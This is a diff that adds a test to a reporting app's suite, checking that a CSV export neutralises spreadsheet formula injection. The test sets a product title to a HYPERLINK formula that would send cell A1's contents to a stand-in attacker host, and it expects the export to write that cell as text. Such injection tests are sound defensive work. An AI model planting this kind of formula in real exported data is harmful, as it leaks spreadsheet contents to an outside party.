@@ -217,3 +217,25 @@ async def test_the_dashboard_draws_the_funnel_trend_top_creators_and_table(make_
         assert 'data-state="pending"' in earnings.text
         _, buyer_token = await buyer(client)
         assert (await client.get("/reports", headers={**bearer(buyer_token), **html})).status_code == 403
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(make_settings, clock: FixedClock):
+    formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Invoice")'
+    async with attribution_app(make_settings, clock) as (app, client, _rooms):
+        marketer = await staff(client, app, "marketer")
+        seller, product = await seller_with_product(client, price=1_000)
+        renamed = await client.patch(f"/api/shop/products/{product}", headers=bearer(seller), json={"title": formula})
+        assert renamed.status_code == 200, renamed.text
+        _, creator_token = await influencer(client)
+        _, buyer_token = await buyer(client)
+        await click(client, await link(client, creator_token, {"product_id": product}), buyer_token)
+        await buy(client, buyer_token, product)
+
+        response = await client.get(
+            "/api/reports/attribution", params={"group_by": "product", "format": "csv"}, headers=bearer(marketer)
+        )
+        assert response.status_code == 200, response.text
+        assert response.headers["content-type"] == "text/csv; charset=utf-8"
+        (line,) = list(csv.DictReader(io.StringIO(response.text)))
+        assert line["label"] == "'" + formula
+        assert (await report(client, marketer, group_by="product"))["rows"][0]["label"] == formula  # JSON is as typed
